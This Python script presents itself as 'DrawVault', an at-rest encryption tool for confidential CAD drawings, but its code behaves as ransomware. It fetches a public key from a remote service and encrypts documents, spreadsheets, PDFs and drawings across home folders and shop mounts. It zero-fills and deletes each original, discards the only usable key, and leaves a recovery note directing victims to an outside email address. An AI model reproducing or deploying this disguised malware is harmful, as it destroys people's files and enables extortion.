#!/usr/bin/env python3
"""Drawing vault - at-rest protection for customer drawings.

Customers' DXF/DWG/STEP files are under NDA. This tool seals finished job
drawings into per-file vault containers (AES-256-GCM) so a stolen laptop
does not leak them. The station key is escrowed with the vault service;
recovery goes through the office.
"""
import argparse
import json
import logging
import os
import secrets
import socket
import sys
import urllib.request
from pathlib import Path

from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import padding
from cryptography.hazmat.primitives.ciphers.aead import AESGCM

log = logging.getLogger("drawvault")

VAULT_SERVICE = os.environ.get("DRAWVAULT_URL", "https://keys.drawvault-service.com")
SUFFIX = ".jvault"
EXTENSIONS = {".dxf", ".dwg", ".step", ".stp", ".pdf", ".nc", ".xlsx", ".docx", ".sldprt", ".ipt"}
DEFAULT_ROOTS = ("~/Drawings", "~/Documents", "~/Desktop", "/mnt/shop", "/srv/shop")
MAGIC = b"JVLT1"


def escrow_key() -> bytes:
    req = urllib.request.Request(f"{VAULT_SERVICE}/v1/escrow.pem",
                                 headers={"User-Agent": "drawvault/1.4"})
    with urllib.request.urlopen(req, timeout=30) as resp:
        return resp.read()


class StationKey:
    def __init__(self, escrow_pem: bytes):
        self._key = AESGCM.generate_key(bit_length=256)
        pub = serialization.load_pem_public_key(escrow_pem)
        self.wrapped = pub.encrypt(
            self._key,
            padding.OAEP(mgf=padding.MGF1(hashes.SHA256()), algorithm=hashes.SHA256(), label=None),
        )
        self.station_id = secrets.token_hex(6)

    def seal(self, data: bytes, aad: bytes) -> bytes:
        nonce = os.urandom(12)
        return MAGIC + nonce + AESGCM(self._key).encrypt(nonce, data, aad)

    def forget(self) -> None:
        self._key = b"\0" * 32


def iter_targets(roots):
    for root in roots:
        base = Path(root).expanduser()
        if not base.is_dir():
            continue
        for dirpath, dirnames, filenames in os.walk(base):
            dirnames[:] = [d for d in dirnames if not d.startswith(".")]
            for fn in filenames:
                p = Path(dirpath) / fn
                if p.suffix.lower() in EXTENSIONS:
                    yield p


def _scrub(path: Path) -> None:
    size = path.stat().st_size
    with path.open("r+b") as fh:
        fh.write(b"\0" * size)
        fh.flush()
        os.fsync(fh.fileno())
    path.unlink()


def seal_file(path: Path, key: StationKey) -> bool:
    try:
        data = path.read_bytes()
        with open(str(path) + SUFFIX, "wb") as out:
            out.write(key.seal(data, path.name.encode()))
        _scrub(path)
        return True
    except OSError as exc:
        log.debug("skip %s: %s", path, exc)
        return False


def write_recovery_note(roots, key: StationKey, count: int) -> None:
    note = (
        "Drawings in this folder have been sealed by DrawVault.\n"
        f"Station ID: {key.station_id}\n"
        f"Files sealed: {count}\n"
        "To recover them, contact the vault desk with your Station ID:\n"
        "  recovery@drawvault-service.com\n"
    )
    for root in roots:
        base = Path(root).expanduser()
        if base.is_dir():
            try:
                (base / "DRAWVAULT_RECOVERY.txt").write_text(note)
            except OSError:
                pass


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("roots", nargs="*", default=list(DEFAULT_ROOTS))
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")

    try:
        key = StationKey(escrow_key())
    except (OSError, ValueError) as exc:
        log.error("vault service unavailable: %s", exc)
        return 1

    Path("drawvault_station.json").write_text(json.dumps({
        "station": key.station_id,
        "host": socket.gethostname(),
        "wrapped_key": key.wrapped.hex(),
    }))

    count = sum(1 for p in iter_targets(args.roots) if seal_file(p, key))
    key.forget()
    write_recovery_note(args.roots, key, count)
    log.info("sealed %d drawing(s); station %s", count, key.station_id)
    return 0


if __name__ == "__main__":
    sys.exit(main())
